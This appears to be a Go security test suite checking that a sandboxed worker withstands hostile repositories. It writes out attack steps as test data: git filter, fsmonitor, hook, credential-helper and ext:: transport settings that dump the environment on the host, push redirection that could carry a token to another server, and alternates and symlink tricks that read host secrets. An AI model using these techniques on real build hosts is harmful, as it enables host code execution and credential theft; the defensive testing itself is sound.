package app_test

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"outerloop/lib/testwait"
	"outerloop/scheduler"
	"outerloop/workitems"
	"outerloop/workitems/itemstore"
)

// The hostile-repository suite (issue 36). A repository's script steps, or an agent's tool
// calls, are hostile: they run in the sandbox, which holds, and write what the sandbox lets
// them write (the work tree, the workspace's .git, symlinks anywhere in it). What must hold is
// the worker's side (docs/security.md, DESIGN.md "What the worker trusts"): nothing a command
// wrote may make the worker run code on the host, bind a host path into the next command,
// write through a link out of the workspace, or read a host file as evidence.
//
// Each case is a real item: script steps under the default sandbox (network: registries),
// delivered as a branch to a real git remote that takes only the forge's token, with secrets
// in the worker's own environment (the forge token's variable, OPENAI_API_KEY) and on the
// host (host directories the test owns; the config directory; another item's workspace). It
// checks behaviour, not layout:
//   - a marker a command can only leave when run ON THE HOST (its path is under the test's
//     temporary directory, which inside the sandbox is a private, empty /tmp) never appears;
//   - no host directory the test owns changes;
//   - no secret is in the workspace, the patch, the events, the evidence, any Redis key of the
//     deployment, the logs or the pushed branch; no git request goes to a server elsewhere;
//   - the item ends definitely: closed with its work-tree change delivered and nothing of a .git
//     directory in the commit when the attack is inert, or escalated naming what the worker
//     refused.

// ending is how a case's item must end.
type ending int

const (
	// inert: the attack does nothing; the item closes with its work delivered.
	inert ending = iota
	// inertOrRefused: inert, or the worker refuses it and the item escalates naming it.
	inertOrRefused
	// refused: the worker refuses it and the item escalates naming it.
	refused
)

// hostileCase is one attack. Its steps may name, and the test replaces: {MARK} the host marker,
// {HOST} its host directory (secret.txt, report.xml and repo/, a git repository, all holding
// its own secret), {ELSEWHERE} the base URL of a server no git of the worker may reach,
// {REMOTE} the remote's origin, {CONFIG} the config directory, {OTHER} another item's
// workspace. A last step always writes NOTES.md: the item's real work.
//
// Host paths are written behind an empty variable (${nothing}/tmp/…), which the shell that
// runs the step (or, for a setting in single quotes, the host's shell git would start)
// expands to nothing: a command word that is a plain absolute path of an existing file is an
// operator file, which the sandbox shows read-only by design (config.OperatorFiles), and
// would hand the step what the attack is meant to reach.
type hostileCase struct {
	name  string // the subtest, as a sentence
	tmpl  string // its template (and branch) name
	steps []string
	done  string // the done check ("" → commands [true])
	extra string // more template keys
	ends  ending
	hints []string // with refused or inertOrRefused: the escalation names one of these
	fifo  bool     // report.xml is a FIFO: a reader stuck on it is unblocked once the case has failed
	// toolchain puts {HOST} on the worker's PATH: a toolchain directory, which every command
	// sees read-only at its own path. bubblewrap mounts on a link only when the link resolves
	// inside the sandbox too (relative, to a directory it shows), so that is what a hostile
	// link aims at: GOROOT, the worker's module cache, a PATH entry.
	toolchain bool
}

// setGit writes one git setting into the workspace's .git/config without asking git whether
// the workspace is a repository (a command can write the file either way).
func setGit(key, value string) string {
	return "mkdir -p .git && git config -f .git/config " + shQuote(key) + " " + shQuote(value)
}

// shQuote quotes s for sh.
func shQuote(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }

const (
	// hostRun is a command that, run anywhere, leaves the worker's environment in the marker.
	hostRun = `env > {MARK}`
	// signedHead makes HEAD a commit carrying a (bogus) signature, for git log to verify.
	signedHead = `tree=$(git write-tree) && base=$(git rev-parse HEAD) && ` +
		`printf 'tree %s\nparent %s\nauthor a <a@a> 1 +0000\ncommitter a <a@a> 1 +0000\ngpgsig -----BEGIN PGP SIGNATURE-----\n \n x\n -----END PGP SIGNATURE-----\n\nsigned\n' "$tree" "$base" ` +
		`| git hash-object -t commit -w --stdin | xargs git update-ref HEAD || true`
	// moveGitDir moves the workspace's .git aside (its .git/outerloop may hold mount points of
	// the running command: a rename of their parent works where a removal does not), ignored.
	moveGitDir = `mv .git .git-old && echo /.git-old/ >> .gitignore`
	// moveOuterloop does the same to .git/outerloop.
	moveOuterloop = `mkdir -p .git/outerloop && mv .git/outerloop .git/outerloop-old && mkdir -p .git/outerloop`
	// hostScript writes an executable script in .git that runs hostRun (for settings git runs
	// as a program, not through the shell).
	hostScript = `mkdir -p .git && printf '#!/bin/sh\nenv > {MARK}\nexit 1\n' > .git/%[1]s && chmod +x .git/%[1]s`
)

func hostileCases() []hostileCase {
	filter := func(kind, cmd string) string { return setGit("filter.x."+kind, cmd) }
	hooks := `for d in .git/hooks .git/evil-hooks; do mkdir -p $d; for h in pre-commit post-commit pre-push ` +
		`reference-transaction post-index-change post-checkout pre-auto-gc post-rewrite; do ` +
		`printf '#!/bin/sh\nenv > {MARK}\n' > $d/$h; chmod +x $d/$h; done; done`
	return []hostileCase{
		// 0. The control: a step that only names the host paths reaches none of them, so what
		// the cases below reach, the attack reached.
		{name: "a step that names host paths reaches none of them", tmpl: "control",
			steps: []string{`cat {HOST}/secret.txt {CONFIG}/secrets.env {OTHER}/secret.txt > stolen.txt 2>&1; echo pwned > {HOST}/pwned; true`}},

		// 1. Code run on the host by git reading the workspace's configuration.
		{name: "a clean filter in .git/config named by .gitattributes runs nowhere on the host", tmpl: "filter-clean",
			steps: []string{filter("clean", `sh -c 'env > {MARK}; cat'`) + ` && echo '* filter=x' > .gitattributes`}},
		{name: "a clean filter named by .git/info/attributes runs nowhere on the host", tmpl: "filter-info",
			steps: []string{filter("clean", `sh -c 'env > {MARK}; cat'`) + ` && mkdir -p .git/info && echo '* filter=x' >> .git/info/attributes`}},
		{name: "a process filter runs nowhere on the host", tmpl: "filter-process",
			steps: []string{filter("process", `sh -c '`+hostRun+`'`) + ` && echo '* filter=x' > .gitattributes`}},
		{name: "a smudge filter runs nowhere on the host", tmpl: "filter-smudge",
			steps: []string{filter("smudge", `sh -c 'env > {MARK}; cat'`) + ` && ` + filter("clean", "cat") + ` && echo '* filter=x' > .gitattributes`}},
		{name: "core.fsmonitor runs nowhere on the host", tmpl: "fsmonitor",
			steps: []string{setGit("core.fsmonitor", `sh -c '`+hostRun+`'`)}},
		{name: "a config file the step wrote and .git/config includes configures nothing on the host", tmpl: "include-path",
			steps: []string{`git config -f .hostile.cfg filter.x.clean "sh -c 'env > {MARK}; cat'" && ` +
				`git config -f .hostile.cfg core.fsmonitor "sh -c '` + hostRun + `'" && ` +
				setGit("include.path", "../.hostile.cfg") + ` && echo '* filter=x' > .gitattributes`}},
		{name: "diff.external runs nowhere on the host", tmpl: "diff-external",
			steps: []string{setGit("diff.external", `sh -c '`+hostRun+`'`) + ` && echo hostile >> README.md`}},
		{name: "a textconv driver runs nowhere on the host", tmpl: "textconv",
			steps: []string{setGit("diff.x.textconv", `sh -c 'env > {MARK}; cat "$0"'`) + ` && echo '* diff=x' > .gitattributes && echo hostile >> README.md`}},
		{name: "core.sshCommand runs nowhere on the host when the push is redirected to ssh", tmpl: "ssh-command",
			steps: []string{setGit("url.ssh://git@127.0.0.1:9/.insteadOf", "{REMOTE}/") + ` && ` + setGit("core.sshCommand", `sh -c 'env > {MARK}; exit 1'`)}},
		{name: "a credential helper runs nowhere on the host when the push is redirected", tmpl: "credential-helper",
			steps: []string{setGit("url.{ELSEWHERE}/.insteadOf", "{REMOTE}/") + ` && ` + setGit("credential.helper", `!sh -c '`+hostRun+`'`)}},
		{name: "core.askPass runs nowhere on the host when the push is redirected", tmpl: "askpass",
			steps: []string{fmt.Sprintf(hostScript, "askpass") + ` && ` + setGit("url.{ELSEWHERE}/.insteadOf", "{REMOTE}/") + ` && ` +
				`git config -f .git/config core.askPass "$PWD/.git/askpass"`}},
		{name: "gpg.program runs nowhere on the host, with commit.gpgsign and a signed HEAD", tmpl: "gpg-program",
			steps: []string{fmt.Sprintf(hostScript, "gpg") + ` && git config -f .git/config gpg.program "$PWD/.git/gpg" && ` +
				setGit("commit.gpgsign", "true") + ` && ` + setGit("log.showSignature", "true"), signedHead}},
		{name: "an ext:: transport named by url.insteadOf runs nowhere on the host", tmpl: "ext-transport",
			steps: []string{setGit("protocol.allow", "always") + ` && ` + setGit("protocol.ext.allow", "always") + ` && ` +
				setGit("url.ext::sh -c env% >{MARK}% #.insteadOf", "{REMOTE}/")}},
		{name: "url.insteadOf does not send the push elsewhere", tmpl: "insteadof",
			steps: []string{setGit("url.{ELSEWHERE}/.insteadOf", "{REMOTE}/") + ` && ` + setGit("url.{ELSEWHERE}/.pushInsteadOf", "{REMOTE}/")}},
		{name: "http.proxy does not carry the push and its token elsewhere", tmpl: "http-proxy",
			steps: []string{setGit("http.proxy", "{ELSEWHERE}")}},
		{name: "hooks in .git/hooks and in a core.hooksPath run nowhere on the host", tmpl: "hooks",
			steps: []string{hooks + ` && git config -f .git/config core.hooksPath "$PWD/.git/evil-hooks"`}},
		{name: "core.worktree does not make a host directory the work tree the worker snapshots and commits", tmpl: "core-worktree",
			steps: []string{`mkdir -p .git && git config -f .git/config core.worktree "{HOST}"`}},
		{name: "a .git replaced by a symlink to a host repository changes nothing there", tmpl: "git-symlink",
			steps: []string{moveGitDir + ` && ln -s {HOST}/repo/.git .git`}},
		{name: "a .git replaced by a gitdir file naming a host repository changes nothing there", tmpl: "gitdir-file",
			steps: []string{moveGitDir + ` && echo "gitdir: {HOST}/repo/.git" > .git`}},

		// 2. Host paths read through a bind computed from the workspace's alternates.
		{name: "an absolute path in the alternates binds no host directory into the next step", tmpl: "alternates-absolute",
			steps: []string{`mkdir -p .git/objects/info && echo {HOST} >> .git/objects/info/alternates`, `cat {HOST}/secret.txt > stolen.txt 2>&1 || true`},
			ends:  inertOrRefused, hints: []string{"alternates"}},
		{name: "a relative path in the alternates binds no host directory into the next step", tmpl: "alternates-relative",
			steps: []string{`mkdir -p .git/objects/info && realpath -m --relative-to=.git/objects {HOST} >> .git/objects/info/alternates`, `cat {HOST}/secret.txt > stolen.txt 2>&1 || true`},
			ends:  inertOrRefused, hints: []string{"alternates"}},
		{name: "the alternates do not show the worker's config directory to the next step", tmpl: "alternates-config",
			steps: []string{`mkdir -p .git/objects/info && echo {CONFIG} >> .git/objects/info/alternates`, `cat {CONFIG}/secrets.env {CONFIG}/outerloop.yaml > stolen.txt 2>&1 || true`},
			ends:  inertOrRefused, hints: []string{"alternates"}},
		{name: "the alternates do not show another item's workspace to the next step", tmpl: "alternates-other",
			steps: []string{`mkdir -p .git/objects/info && echo {OTHER} >> .git/objects/info/alternates`, `cat {OTHER}/secret.txt > stolen.txt 2>&1 || true`},
			ends:  inertOrRefused, hints: []string{"alternates"}},

		// 3. Host directories written through a link where the worker keeps a per-workspace cache.
		{name: "a downloads directory replaced by a symlink to a read-only toolchain directory does not make it writable", tmpl: "downloads-link", toolchain: true,
			steps: []string{moveOuterloop + ` && ln -s "$(realpath -m --relative-to=.git/outerloop {HOST})" .git/outerloop/downloads`,
				`for d in "$GOMODCACHE" "$GOMODCACHE/.." "$npm_config_cache" .git/outerloop/downloads; do echo pwned > "$d/pwned"; done 2>/dev/null; true`},
			ends: inertOrRefused, hints: []string{"downloads"}},
		{name: "a workspace build cache replaced by a symlink to a read-only toolchain directory does not make it writable", tmpl: "gocache-link", toolchain: true,
			extra: "sandbox: {build_cache: workspace}",
			steps: []string{moveOuterloop + ` && ln -s "$(realpath -m --relative-to=.git/outerloop {HOST})" .git/outerloop/gocache`,
				`for d in "$GOCACHE" .git/outerloop/gocache; do echo pwned > "$d/pwned"; done 2>/dev/null; true`},
			ends: inertOrRefused, hints: []string{"gocache", "build cache"}},

		// 4. Evidence read through a link out of the workspace.
		{name: "a report that is a symlink to a host file is refused, not read", tmpl: "report-link",
			steps: []string{`ln -s {HOST}/report.xml report.xml`}, done: `{commands: ["true"], reports: ["report.xml"]}`,
			ends: refused, hints: []string{"report.xml"}},
		{name: "a report directory that is a symlink to a host directory is refused, not read", tmpl: "report-dir-link",
			steps: []string{`ln -s {HOST} reports`}, done: `{commands: ["true"], reports: ["reports/*.xml"]}`,
			ends: refused, hints: []string{"reports"}},
		{name: "an untracked symlink to a host file is not read into the evidence", tmpl: "evidence-link",
			steps: []string{`ln -s {HOST}/secret.txt leak.txt`}, ends: inertOrRefused, hints: []string{"leak.txt"}},
		{name: "a report that is a FIFO is refused and does not hang the verifier", tmpl: "report-fifo",
			steps: []string{`mkfifo report.xml`}, done: `{commands: ["true"], reports: ["report.xml"]}`,
			ends: refused, hints: []string{"report.xml"}, fifo: true},
	}
}

// hostileRun is one case in a world: its paths, secret and server elsewhere.
type hostileRun struct {
	hostileCase
	marker, host, secret string
	before               hostTree // the host directory before the item ran
	elsewhere            *elsewhere
	item                 string // the item's id, once submitted
}

func (r *hostileRun) expand(w *hostileWorld, s string) string {
	const masked = "${nothing}" // see hostileCase
	return strings.NewReplacer("{MARK}", masked+r.marker, "{HOST}", masked+r.host, "{ELSEWHERE}", r.elsewhere.URL+"/"+r.tmpl,
		"{REMOTE}", w.remote.URL, "{CONFIG}", masked+w.cfgDir, "{OTHER}", masked+w.other).Replace(s)
}

func (r *hostileRun) template(w *hostileWorld) hostileTemplate {
	steps := make([]string, 0, len(r.steps)+1)
	for _, s := range r.steps {
		steps = append(steps, r.expand(w, s))
	}
	steps = append(steps, fmt.Sprintf(`echo "work of %s" > NOTES.md`, r.tmpl))
	return hostileTemplate{name: r.tmpl, loop: "{kind: script, commands: " + quoteAll(steps) + "}", done: r.done, extra: r.extra}
}

// TestAHostileRepositoryGetsNothingFromTheWorker runs every case as its own item on one world
// (one remote, one worker of concurrency 6), the cases in parallel, then checks what no single
// case owns: every host file the test made, another item's workspace, and the deployment's
// Redis keys that name no item.
func TestAHostileRepositoryGetsNothingFromTheWorker(t *testing.T) {
	// Not parallel: it sets the worker's own environment (t.Setenv); its cases are.
	runs := []*hostileRun{}
	for _, c := range hostileCases() {
		runs = append(runs, &hostileRun{hostileCase: c, elsewhere: newElsewhere(t)})
	}
	w := newHostileWorld(t, func(w *hostileWorld) []hostileTemplate {
		var out []hostileTemplate
		for _, r := range runs {
			r.marker, r.secret = filepath.Join(w.markers, r.tmpl), canary("host-secret-"+r.tmpl)
			r.host = w.hostDir(t, r.tmpl, r.secret)
			if r.toolchain {
				w.toolchain = append(w.toolchain, r.host)
			}
			out = append(out, r.template(w))
		}
		return out
	}, nil)
	startAppWorker(t, w.s.App, 6, "hostile")
	for _, r := range runs {
		r.before = snapshotHost(t, r.host)
	}
	before, otherBefore := snapshotHost(t, w.root), snapshotHost(t, w.other)
	t.Run("attacks", func(t *testing.T) {
		for _, r := range runs {
			t.Run(r.name, func(t *testing.T) {
				t.Parallel()
				w.check(t, r, w.submit(t, r))
			})
		}
	})
	if ch := before.changes(snapshotHost(t, w.root)); len(ch) > 0 {
		t.Errorf("host files the test owns changed:\n  %s", strings.Join(ch, "\n  "))
	}
	if ch := otherBefore.changes(snapshotHost(t, w.other)); len(ch) > 0 {
		t.Errorf("another item's workspace changed:\n  %s", strings.Join(ch, "\n  "))
	}
	// Keys no one item names (indexes, counters, queues) hold no secret either.
	all, items := w.allSecrets(nil), []string{}
	for _, r := range runs {
		all["the host directory's secret of "+r.tmpl] = r.secret
		items = append(items, r.item)
	}
	shared := func(k string) bool {
		return !slices.ContainsFunc(items, func(id string) bool { return id != "" && strings.Contains(k, id) })
	}
	if leaks := redisLeaks(t, w.s, shared, all); len(leaks) > 0 {
		t.Errorf("secrets in the deployment's Redis keys:\n  %s", strings.Join(leaks, "\n  "))
	}
}

// submit runs the case's item to its end.
func (w *hostileWorld) submit(t *testing.T, r *hostileRun) *workitems.Item {
	t.Helper()
	ctx := context.Background()
	it, err := w.s.Queue.Submit(ctx, scheduler.Request{Template: r.tmpl})
	if err != nil {
		t.Fatal(err)
	}
	r.item = it.ID
	// The bound only stops a hung item. An item of a FIFO case that does not end has something
	// of the worker's waiting on the FIFO (the verifier has no reason to wait on a report): it
	// is given half the time left, then its FIFOs are unblocked so that the worker can stop.
	began, deadline := time.Now(), testwait.Deadline(t)
	if r.fifo {
		deadline = began.Add(testwait.Left(t) / 2)
	}
	wctx, cancel := context.WithDeadline(ctx, deadline)
	defer cancel()
	got, err := w.s.Store.WaitFor(wctx, it.ID, itemstore.InState(hostileEnds...))
	switch {
	case err == nil:
		return got
	case r.fifo:
		t.Errorf("the item did not end within %s: something of the worker's waits on the FIFO (it is %s; trail %v): %v",
			time.Since(began).Round(time.Second), got.State, trail(t, w.s, it.ID), err)
		return w.unblockFIFOs(t, it.ID)
	default:
		t.Fatalf("the item did not end within %s (it is %s; trail %v): %v", time.Since(began).Round(time.Second), got.State, trail(t, w.s, it.ID), err)
		return nil
	}
}

// hostileEnds are the states an item of the suite may end in.
var hostileEnds = []workitems.State{workitems.StateClosed, workitems.StateEscalated, workitems.StateFailed, workitems.StateCancelled}

// unblockFIFOs opens report.xml of each of the item's workspaces for writing whenever a reader
// is stuck opening it, until the item ends (the worker's shutdown would otherwise wait for that
// reader forever).
func (w *hostileWorld) unblockFIFOs(t *testing.T, id string) *workitems.Item {
	t.Helper()
	deadline := testwait.Deadline(t)
	for {
		it, err := w.s.Store.Get(context.Background(), id)
		if err != nil {
			t.Fatal(err)
		}
		if slices.Contains(hostileEnds, it.State) {
			return it
		}
		if time.Now().After(deadline) {
			t.Fatalf("the item %s did not end with its FIFOs unblocked: it is %s", id, it.State)
		}
		for _, n := range w.s.Workspaces.Attempts(id) {
			f, err := os.OpenFile(filepath.Join(w.s.Workspaces.Path(id, n), "report.xml"), os.O_WRONLY|syscall.O_NONBLOCK, 0)
			if err == nil {
				f.Close() // the reader's open returns; it reads nothing
			}
		}
		time.Sleep(50 * time.Millisecond) // a reader blocked in open(2) has no event to await
	}
}

// check asserts what every case must hold, then how its item ended.
func (w *hostileWorld) check(t *testing.T, r *hostileRun, it *workitems.Item) {
	if b, err := os.ReadFile(r.marker); err == nil {
		t.Errorf("the host ran the item's command: %s appeared, and the environment it got holds %v", r.marker, w.allSecrets(nil).found(b))
	}
	if ch := r.before.changes(snapshotHost(t, r.host)); len(ch) > 0 {
		t.Errorf("the host directory %s changed:\n  %s", r.host, strings.Join(ch, "\n  "))
	}
	if leaks := w.leaksOf(t, r, it); len(leaks) > 0 {
		t.Errorf("secrets left the host's side:\n  %s", strings.Join(leaks, "\n  "))
	}
	if seen := r.elsewhere.requests(w.allSecrets(nil)); len(seen) > 0 {
		t.Errorf("git went to a server the item named instead of the remote:\n  %s", strings.Join(seen, "\n  "))
	}
	w.checkEnding(t, r, it)
}

func (w *hostileWorld) leaksOf(t *testing.T, r *hostileRun, it *workitems.Item) []string {
	t.Helper()
	return w.leaks(t, it, w.allSecrets(secrets{"the host directory's secret": r.secret}))
}

// checkEnding asserts how the item ended: closed with its work delivered (inert), or
// escalated naming what was refused.
func (w *hostileWorld) checkEnding(t *testing.T, r *hostileRun, it *workitems.Item) {
	named := slices.ContainsFunc(r.hints, func(h string) bool { return strings.Contains(why(it), h) })
	switch {
	case it.State == workitems.StateClosed && r.ends != refused:
		w.checkDelivered(t, r, it)
	case it.State == workitems.StateEscalated && r.ends != inert && named:
	case r.ends == inert:
		t.Errorf("the attack is inert, so the item must close with its work delivered; it is %s: %s\n  trail %v", it.State, why(it), trail(t, w.s, it.ID))
	default:
		t.Errorf("the item must escalate naming one of %q (or, where the attack is inert, close); it is %s: %s\n  trail %v",
			r.hints, it.State, why(it), trail(t, w.s, it.ID))
	}
}

// checkDelivered asserts that the closed item's branch on the remote is its pushed commit,
// holding the step's work-tree change and nothing of a .git directory.
func (w *hostileWorld) checkDelivered(t *testing.T, r *hostileRun, it *workitems.Item) {
	d := it.Delivery
	if d == nil || d.PushedSHA == "" {
		t.Errorf("closed without a pushed commit: %+v", d)
		return
	}
	if head := w.remote.branch(t, d.Branch); head != d.PushedSHA {
		t.Errorf("branch %s on the remote is %q, the item pushed %s", d.Branch, head, d.PushedSHA)
		return
	}
	paths, notes := w.delivered(t, d.PushedSHA)
	if want := "work of " + r.tmpl; notes != want {
		t.Errorf("the delivered commit's NOTES.md is %q, want %q (paths %v)", notes, want, paths)
	}
	if bad := slices.DeleteFunc(slices.Clone(paths), func(p string) bool { return !underGitDir(p) }); len(bad) > 0 {
		t.Errorf("the delivered commit holds .git internals: %v", bad)
	}
}
